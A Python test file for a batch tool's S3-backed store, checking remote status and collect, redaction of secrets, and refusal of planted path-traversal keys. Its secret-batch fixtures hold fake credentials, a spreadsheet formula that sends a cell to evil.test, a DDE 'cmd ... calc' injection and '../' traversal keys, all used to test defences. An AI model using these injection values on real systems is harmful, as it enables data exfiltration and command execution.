"""A batch published to `s3://` (moto's S3 server on 127.0.0.1), watched from another data home:
`batch status`, `tasks show BATCH/ITEM`, `diff BATCH/ITEM`, `report BATCH/ITEM` and `batch collect`
with --store."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from batch_support import batch_id, cli, edit_items, needs_sandbox

pytest.importorskip("moto.server", reason="moto is not installed (.ci/run installs it)")
pytest.importorskip("s3fs", reason="s3fs is not installed (.ci/run installs it)")

pytestmark = needs_sandbox
BUCKET = "batches"


@pytest.fixture(scope="module")
def s3() -> Iterator[dict[str, str]]:
    """An S3 server on loopback with one bucket; the environment that reaches it."""
    import boto3
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    try:
        host, port = server.get_host_and_port()
        url = f"http://{host}:{port}"
        env = {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
               "AWS_DEFAULT_REGION": "us-east-1", "AWS_ENDPOINT_URL": url,
               "FSSPEC_S3_ENDPOINT_URL": url}
        boto3.client("s3", endpoint_url=url, aws_access_key_id="testing",
                     aws_secret_access_key="testing",
                     region_name="us-east-1").create_bucket(Bucket=BUCKET)
        yield env
    finally:
        server.stop()


def test_a_batch_on_s3_is_watched_and_collected_from_another_data_home(
        tmp_path: Path, s3: dict[str, str]) -> None:
    items = edit_items(tmp_path, 3)
    store = f"s3://{BUCKET}/team"
    done = cli("batch", "wf.toml", "--items", str(items), "--store", store, "--item-workspace",
               f"clone:{tmp_path}/{{item.path}}", cwd=tmp_path, home=tmp_path / "runner", **s3)
    assert done.returncode == 0, done.stdout + done.stderr
    batch = batch_id(done.stdout)
    other = tmp_path / "watcher"  # another data home: nothing of the batch is here
    status = cli("batch", "status", batch[:6], "--store", store, cwd=tmp_path, home=other,
                 **s3)
    assert status.returncode == 0, status.stderr
    assert status.stdout.splitlines()[0] == f"batch {batch}: 3 items (3 done), $0.0000"
    show = cli("tasks", "show", f"{batch}/1", "--store", store, cwd=tmp_path, home=other, **s3)
    assert show.returncode == 0, show.stderr
    assert " done" in show.stdout.splitlines()[0] and "word1" in show.stdout
    diff = cli("diff", f"{batch}/2", "--store", store, cwd=tmp_path, home=other, **s3)
    assert diff.returncode == 0 and "+word2" in diff.stdout, diff.stderr
    report = cli("report", f"{batch}/2", "--store", store, cwd=tmp_path, home=other, **s3)
    assert report.returncode == 0, report.stderr
    written = Path(report.stdout.removeprefix("wrote ").strip())
    assert written.is_relative_to(other / "reports"), written  # kept here, not in the scratch
    page = written.read_text()
    assert "word2" in page and "done" in page
    assert "effects.log" in page  # its steps, from the published journal
    assert '<span class="add">+word2</span>' in page  # and its change, as published
    out = tmp_path / "collected"
    gathered = cli("batch", "collect", batch, "-o", str(out), "--store", store, cwd=tmp_path,
                   home=other, **s3)
    assert gathered.returncode == 0, gathered.stderr
    results = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
    assert [r["status"] for r in results] == ["done"] * 3
    assert all(f"+word{n}" in (out / r["diff"]).read_text() for n, r in enumerate(results))
    assert not (other / "tasks").exists()  # read from a scratch copy, never into this home


def test_a_dir_workspace_with_a_remote_store_is_refused_in_one_line(
        tmp_path: Path, s3: dict[str, str]) -> None:
    items = edit_items(tmp_path, 1)  # (its workflow's workspace is dir:{item.path})
    home = tmp_path / "runner"
    done = cli("batch", "wf.toml", "--items", str(items), "--store", f"s3://{BUCKET}/dir",
               cwd=tmp_path, home=home, **s3)
    assert done.returncode == 2 and done.stdout == "", done.stdout + done.stderr
    assert len(done.stderr.splitlines()) == 1, done.stderr
    assert "'dir:{item.path}' cannot go with --store s3://" in done.stderr
    assert "a directory on one machine is not on another" in done.stderr
    assert not (home / "batches").exists()  # refused before a batch exists
    flag = cli("batch", "wf.toml", "--items", str(items), "--store", f"s3://{BUCKET}/dir",
               "--item-workspace", f"dir:{tmp_path}", cwd=tmp_path, home=home, **s3)
    assert flag.returncode == 2 and "cannot go with --store" in flag.stderr, flag.stderr


def test_an_unknown_batch_or_store_is_one_line(tmp_path: Path, s3: dict[str, str]) -> None:
    missing = cli("batch", "status", "ffff", "--store", f"s3://{BUCKET}/none", cwd=tmp_path,
                  home=tmp_path / "h", **s3)
    assert missing.returncode != 0 and len(missing.stderr.splitlines()) == 1
    assert "no batch matches 'ffff'" in missing.stderr


AWS_KEY = "AKIAIOSFODNN7EXAMPL3"
GH_TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2
DB_PASSWORD = "hunter2-correct-horse"
PLAIN = "Tr0ub4dor-and-3"  # a --var value no shape or name marks
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXNpZ25lZA"
FORMULA = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"


def _bucket(s3: dict[str, str]) -> Any:
    import boto3

    return boto3.client("s3", endpoint_url=s3["AWS_ENDPOINT_URL"],
                        aws_access_key_id="testing", aws_secret_access_key="testing",
                        region_name="us-east-1")


def _objects(s3: dict[str, str], prefix: str) -> dict[str, bytes]:
    client = _bucket(s3)
    listed = client.list_objects_v2(Bucket=BUCKET, Prefix=prefix).get("Contents", [])
    return {o["Key"]: client.get_object(Bucket=BUCKET, Key=o["Key"])["Body"].read()
            for o in listed}


def _secret_batch(tmp_path: Path, s3: dict[str, str], prefix: str) -> tuple[str, str]:
    """A batch whose --var values and item fields hold secrets, published to `prefix`."""
    items = edit_items(tmp_path, 2)
    wf = tmp_path / "wf.toml"
    declared = '[workflow.vars]\napi_token = ""\ndb_password = ""\ndb = ""\n\n'
    uses = '[[workflow.steps]]\nname = "use"\naction = "run true {db}"\n'  # in the journal
    wf.write_text(wf.read_text().replace("[workflow.permissions]",
                                         declared + "[workflow.permissions]") + uses)
    rows = [json.loads(line) for line in items.read_text().splitlines()]
    rows[0].update(key=AWS_KEY, token=JWT, note=FORMULA, count="-3")
    rows[1].update(note="-2+3+cmd|' /C calc'!A0", extra=f"id_{GH_TOKEN}")
    items.write_text("".join(json.dumps(row) + "\n" for row in rows))
    store = f"s3://{BUCKET}/{prefix}"
    done = cli("batch", "wf.toml", "--items", str(items), "--store", store,
               "--var", f"api_token={GH_TOKEN}", "--var", f"db_password={DB_PASSWORD}",
               "--var", f"db={PLAIN}", "--item-workspace", f"clone:{tmp_path}/{{item.path}}",
               cwd=tmp_path, home=tmp_path / "runner", **s3)
    assert done.returncode == 0, done.stdout + done.stderr
    return batch_id(done.stdout), store


SECRETS = (AWS_KEY, GH_TOKEN, DB_PASSWORD, JWT, PLAIN)


def test_what_a_batch_uploads_is_redacted_and_the_local_store_stays_exact(
        tmp_path: Path, s3: dict[str, str]) -> None:
    batch, _ = _secret_batch(tmp_path, s3, "secrets")
    uploaded = _objects(s3, "secrets/")
    assert f"secrets/batches/{batch}/manifest.json" in uploaded
    exact = re.compile(r"secrets/record/tasks/[^/]+/(head|lease|state/[^/]+|files/[^/]+)")
    for key, data in uploaded.items():  # what is published for watchers: redacted
        if exact.fullmatch(key) is None:
            assert not [s for s in SECRETS if s.encode() in data], key
    # the items' records (under record/) are the data home's copy, exact as it is: what a
    # resume elsewhere executes (a driver config with the --var values, say)
    assert [k for k, data in uploaded.items() if exact.fullmatch(k) and GH_TOKEN.encode() in data]
    manifest = json.loads(uploaded[f"secrets/batches/{batch}/manifest.json"])
    assert manifest["variables"] == dict.fromkeys(("api_token", "db", "db_password"),
                                                  "[REDACTED]")
    assert manifest["items"][0]["key"] == "[REDACTED]" and manifest["items"][0]["word"] == "word0"
    local = json.loads((tmp_path / "runner" / "batches" / batch / "manifest.json").read_text())
    assert local["variables"] == {"api_token": GH_TOKEN, "db_password": DB_PASSWORD,
                                  "db": PLAIN}
    assert local["items"][0]["key"] == AWS_KEY  # the exact data, owner-only, for resume


def test_collect_writes_redacted_results_and_inert_csv_cells(
        tmp_path: Path, s3: dict[str, str]) -> None:
    import csv

    batch, store = _secret_batch(tmp_path, s3, "collect")
    for where, extra in ((tmp_path / "runner", ()), (tmp_path / "watcher", ("--store", store))):
        out = tmp_path / f"out-{where.name}"
        gathered = cli("batch", "collect", batch, "-o", str(out), *extra, cwd=tmp_path,
                       home=where, **s3)
        assert gathered.returncode == 0, gathered.stderr
        for name in ("results.jsonl", "results.csv"):
            text = (out / name).read_text()
            assert not [s for s in SECRETS if s in text], (where.name, name)
        records = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
        assert records[0]["item"]["key"] == "[REDACTED]" and records[0]["status"] == "done"
        assert records[0]["item"]["note"] == FORMULA  # JSON is data: no spreadsheet reads it
        with (out / "results.csv").open(newline="") as handle:
            table = list(csv.DictReader(handle))
        assert table[0]["item.note"] == "'" + FORMULA
        assert table[1]["item.note"] == "'-2+3+cmd|' /C calc'!A0"
        assert table[0]["item.count"] == "-3"  # a plain number stays a number
        assert table[1]["item.extra"] == "id_[REDACTED]"


def test_a_planted_key_or_id_in_the_bucket_is_refused_and_nothing_leaves_the_scratch(
        tmp_path: Path, s3: dict[str, str]) -> None:
    items = edit_items(tmp_path, 1)
    store = f"s3://{BUCKET}/planted"
    done = cli("batch", "wf.toml", "--items", str(items), "--store", store, "--item-workspace",
               f"clone:{tmp_path}/{{item.path}}", cwd=tmp_path, home=tmp_path / "runner", **s3)
    assert done.returncode == 0, done.stderr
    batch = batch_id(done.stdout)
    scratch = tmp_path / "scratch"  # where the watcher's scratch home is made
    scratch.mkdir()
    client = _bucket(s3)
    planted = f"planted/batches/{batch}/../../../escaped.pth"
    client.put_object(Bucket=BUCKET, Key=planted, Body=b"import os\n")
    status = cli("batch", "status", batch, "--store", store, cwd=tmp_path,
                 home=tmp_path / "watcher", TMPDIR=str(scratch), **s3)
    assert status.returncode != 0 and len(status.stderr.strip().splitlines()) == 1
    assert "is not one a batch publishes" in status.stderr and "Traceback" not in status.stderr
    assert not list(tmp_path.rglob("escaped.pth"))
    client.delete_object(Bucket=BUCKET, Key=planted)
    key = f"planted/batches/{batch}/items/00000.json"
    record = json.loads(client.get_object(Bucket=BUCKET, Key=key)["Body"].read())
    client.put_object(Bucket=BUCKET, Key=key,
                      Body=json.dumps({**record, "task_id": "../../../escaped"}).encode())
    status = cli("batch", "status", batch, "--store", store, cwd=tmp_path,
                 home=tmp_path / "watcher", TMPDIR=str(scratch), **s3)
    assert status.returncode != 0 and len(status.stderr.strip().splitlines()) == 1
    assert "is not an id" in status.stderr
    assert not list(tmp_path.rglob("escaped*"))
